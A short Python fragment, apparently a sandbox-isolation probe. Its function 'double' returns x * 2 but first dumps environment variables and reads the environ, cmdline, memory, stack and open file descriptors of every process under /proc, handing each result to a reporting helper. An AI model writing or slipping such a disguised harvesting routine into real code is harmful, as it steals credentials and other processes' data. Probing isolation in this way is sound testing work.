# Looks for the environment, the arguments and the open files of every process.


def at_once(path):
    tell(os.read(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 1 << 16))


def double(x):
    tell(os.environ)
    environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
    at = 0
    while environ[at]:
        tell(environ[at])
        at += 1
    numbers = {str(each) for each in (os.getpid(), os.getppid(), 1, BYSTANDER, "self")}
    for name in numbers | set(attempt(os.listdir, "/proc") or []):
        for what in ("environ", "cmdline", "maps", "mem", "auxv", "stack", "root", "cwd"):
            attempt(read, f"/proc/{name}/{what}")
        for number in attempt(os.listdir, f"/proc/{name}/fd") or range(8):
            attempt(at_once, f"/proc/{name}/fd/{number}")
    return x * 2
